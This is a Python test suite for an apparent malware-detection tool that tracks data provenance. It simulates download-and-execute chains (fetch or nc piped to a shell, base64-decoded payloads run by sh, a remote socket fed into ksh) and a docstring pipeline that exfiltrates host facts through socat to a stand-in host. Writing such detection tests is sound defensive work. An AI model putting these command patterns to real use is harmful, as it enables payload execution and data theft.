"""Data provenance on built event streams: which bytes reached which exec, and through what."""

from __future__ import annotations

from detonate.detect.provenance import DECODED, HOST_FACTS, NETWORK, provenance_of
from detonate.model.events import (
    DataWritten,
    FileCreated,
    FileDeleted,
    FileOpenedForRead,
    FileOpenedForWrite,
    FileRenamed,
    NetworkSent,
)

from .stream import Stream


def _data(s: Stream, pid: int, path: str) -> None:
    s.add(DataWritten, pid, path=path, fd=1, bytes=64)


def _sinks(s: Stream) -> list[tuple[str, int, str, str]]:
    return [(x.how, x.pid, x.path, x.taint.kind) for x in provenance_of(s.view()).sinks]


def _download(s: Stream, pid: int, path: str) -> None:
    s.spawn(1, pid, "fetch", path="/usr/bin/fetch")
    s.connect(pid, "198.51.100.23", 80)
    s.write(pid, path)
    _data(s, pid, path)
    s.exit(pid)


def test_bytes_are_followed_through_a_pipe_a_filter_a_rename_and_a_link() -> None:
    s = Stream()
    s.exec(1, "sh", "/entry.sh", path="/bin/sh")
    s.spawn(1, 2, "nc", "h.test", "80", path="/bin/nc", stdout="pipe:[6]")
    s.spawn(1, 3, "sed", "1d", path="/bin/sed", stdin="pipe:[6]", stdout="/tmp/a")
    s.connect(2, "198.51.100.23", 80)
    _data(s, 2, "pipe:[6]")
    _data(s, 3, "/tmp/a")
    s.add(FileRenamed, 1, path="/tmp/a", new_path="/tmp/b")
    s.add(FileCreated, 1, path="/usr/bin/svc", file_type="hardlink", target="/tmp/b")
    s.spawn(1, 4, "svc", path="/usr/bin/svc")
    (sink,) = provenance_of(s.view()).sinks
    assert (sink.how, sink.pid, sink.path, sink.taint.kind) == ("exec", 4, "/usr/bin/svc", NETWORK)
    assert [h.what for h in sink.taint.hops] == [
        "connected to 198.51.100.23:80",
        "wrote pipe:[6]",
        "sed read it on its standard input",
        "wrote /tmp/a",
        "renamed to /tmp/b",
        "linked as /usr/bin/svc",
    ]


def test_a_shell_reading_a_tainted_pipe_runs_it_a_filter_does_not() -> None:
    s = Stream()
    s.exec(1, "sh", "/entry.sh", path="/bin/sh")
    s.spawn(1, 2, "fetch", path="/usr/bin/fetch", stdout="pipe:[7]")
    s.spawn(1, 3, "bash", path="/bin/bash", stdin="pipe:[7]")
    s.spawn(1, 4, "grep", "x", path="/bin/grep", stdin="pipe:[8]")
    s.connect(2, "198.51.100.23", 80)
    _data(s, 2, "pipe:[7]")
    assert _sinks(s) == [("pipe", 3, "pipe:[7]", NETWORK)]


def test_deleted_or_rewritten_files_no_longer_carry_the_download() -> None:
    s = Stream()
    s.exec(1, "sh", "/entry.sh", path="/bin/sh")
    _download(s, 2, "/tmp/x")
    _download(s, 3, "/tmp/y")
    s.add(FileDeleted, 1, path="/tmp/x")
    s.write(1, "/tmp/x")  # the shell writes its own /tmp/x
    _data(s, 1, "/tmp/x")
    # truncated by a program that received nothing
    s.add(FileOpenedForWrite, 1, path="/tmp/y", flags="O_WRONLY|O_TRUNC", truncated=True)
    _data(s, 1, "/tmp/y")
    s.spawn(1, 4, "x", path="/tmp/x")
    s.spawn(1, 5, "y", path="/tmp/y")
    assert _sinks(s) == []


def test_a_script_given_to_an_interpreter_and_a_forked_child_carry_the_taint() -> None:
    s = Stream()
    s.exec(1, "python3", "/app/agent.py", path="/usr/bin/python3")
    s.connect(1, "198.51.100.23", 443)
    s.fork(1, 2)  # a copy of the tainted program writes the file
    s.write(2, "/tmp/.s")
    _data(s, 2, "/tmp/.s")
    s.exit(2)
    s.spawn(1, 3, "sh", "./.s", path="/bin/sh")
    s.add(FileOpenedForRead, 3, path="/tmp/.s", flags="O_RDONLY")
    assert _sinks(s) == [("script", 3, "/tmp/.s", NETWORK)]


def test_a_decoder_output_is_decoded_and_its_network_input_stays_network() -> None:
    s = Stream()
    s.exec(1, "sh", "/entry.sh", path="/bin/sh")
    s.spawn(1, 2, "fetch", path="/usr/bin/fetch", stdout="pipe:[7]")
    s.spawn(1, 3, "base64", "-d", path="/usr/bin/base64", stdin="pipe:[7]", stdout="pipe:[8]")
    s.spawn(1, 4, "sh", path="/bin/sh", stdin="pipe:[8]")
    s.connect(2, "198.51.100.23", 80)
    _data(s, 2, "pipe:[7]")
    _data(s, 3, "pipe:[8]")
    assert sorted(_sinks(s)) == [
        ("pipe", 4, "pipe:[8]", DECODED),
        ("pipe", 4, "pipe:[8]", NETWORK),
    ]


def test_a_program_whose_stdin_is_a_remote_connection_reads_the_network() -> None:
    # zsh's ztcp-style fd: `awk 'NR>7' <&5 | ksh`, the socket opened by the parent shell and
    # read by a filter that made no connect of its own; a loopback peer is no download
    s = Stream()
    s.exec(1, "zsh", "/entry.zsh", path="/bin/zsh")
    remote = "socket:TCP:[10.0.0.2:40000->203.0.113.8:8080]"
    s.spawn(1, 2, "awk", "NR>7", path="/usr/bin/awk", stdin=remote, stdout="pipe:[9]")
    s.spawn(1, 3, "ksh", path="/bin/ksh", stdin="pipe:[9]")
    _data(s, 2, "pipe:[9]")
    local = "socket:TCP:[127.0.0.1:40001->127.0.0.1:6379]"
    s.spawn(1, 4, "awk", "1", path="/usr/bin/awk", stdin=local, stdout="pipe:[10]")
    s.spawn(1, 5, "ksh", path="/bin/ksh", stdin="pipe:[10]")
    _data(s, 4, "pipe:[10]")
    (sink,) = provenance_of(s.view()).sinks
    assert (sink.how, sink.pid, sink.taint.kind) == ("pipe", 3, NETWORK)
    assert sink.taint.hops[0].what == "its standard input is a connection to 203.0.113.8:8080"


def test_an_extractor_reads_the_decompressor_it_started_and_a_stdin_file_is_read() -> None:
    # bsdtar -xJf of a downloaded archive: bsdtar starts `xz -d < archive` and reads its
    # output pipe (no program has that pipe as stdin), then writes the member that is run
    s = Stream()
    s.exec(1, "sh", "/entry.sh", path="/bin/sh")
    _download(s, 2, "/var/tmp/pkg.txz")
    s.spawn(1, 3, "bsdtar", "-xJf", "/var/tmp/pkg.txz", path="/usr/bin/bsdtar")
    s.fork(3, 4)
    s.add(FileOpenedForRead, 4, path="/var/tmp/pkg.txz", flags="O_RDONLY")
    s.exec(4, "xz", "-d", path="/usr/bin/xz", stdin="/var/tmp/pkg.txz", stdout="pipe:[12]")
    _data(s, 4, "pipe:[12]")
    s.write(3, "/opt/pkg/run")
    _data(s, 3, "/opt/pkg/run")
    s.spawn(1, 5, "run", path="/opt/pkg/run")
    assert _sinks(s) == [("exec", 5, "/opt/pkg/run", NETWORK)]


def test_a_download_captured_by_a_non_extractor_parent_is_not_followed() -> None:
    # a Python program that runs `curl URL` with its output captured, then writes its own
    # state file and runs it: the capture is pipelines.py's, not provenance's
    s = Stream()
    s.exec(1, "python3", "/srv/app.py", path="/usr/bin/python3")
    s.spawn(1, 2, "curl", "http://x.test/v", path="/usr/bin/curl", stdout="pipe:[13]")
    s.connect(2, "198.51.100.23", 80)
    _data(s, 2, "pipe:[13]")
    s.write(1, "/srv/state/run.sh")
    _data(s, 1, "/srv/state/run.sh")
    s.spawn(1, 3, "run.sh", path="/srv/state/run.sh")
    assert _sinks(s) == []


def test_output_captured_through_a_substitution_subshell_reaches_the_shell() -> None:
    """`body=$(gzip -c /tmp/d | openssl base64); printf … "$body" | socat - TCP:…`: the
    pipeline's last program writes the substitution subshell's stdout (a forked copy of the
    shell, no exec); the shell that forked the subshell reads it, and a later copy of that
    shell writes it to socat, which sends it."""
    s = Stream()
    s.exec(1, "sh", "/usr/share/diag/collect.sh", path="/bin/sh")
    s.spawn(1, 2, "uname", "-a", path="/usr/bin/uname", stdout="/tmp/d")
    _data(s, 2, "/tmp/d")
    s.exit(2)
    s.fork(1, 3)  # the $( … ) subshell, its stdout the pipe the shell reads
    s.spawn(3, 4, "gzip", "-c", "/tmp/d", path="/usr/bin/gzip", stdout="pipe:[7]")
    s.spawn(3, 5, "openssl", "base64", path="/usr/bin/openssl", stdin="pipe:[7]", stdout="pipe:[8]")
    s.add(FileOpenedForRead, 4, path="/tmp/d", flags="O_RDONLY")
    _data(s, 4, "pipe:[7]")
    _data(s, 5, "pipe:[8]")
    for pid in (4, 5, 3):
        s.exit(pid)
    s.fork(1, 6)  # printf, a builtin, in the pipeline's first subshell
    _data(s, 6, "pipe:[9]")
    s.spawn(1, 7, "socat", "-", "TCP:198.51.100.201:8443", path="/usr/bin/socat", stdin="pipe:[9]")
    s.connect(7, "198.51.100.201", 8443)
    s.add(NetworkSent, 7, family="AF_INET", protocol="TCP", address="198.51.100.201", port=8443,
          bytes=1944, call="write")  # fmt: skip
    assert ("sent", 7, "198.51.100.201:8443", HOST_FACTS) in _sinks(s)
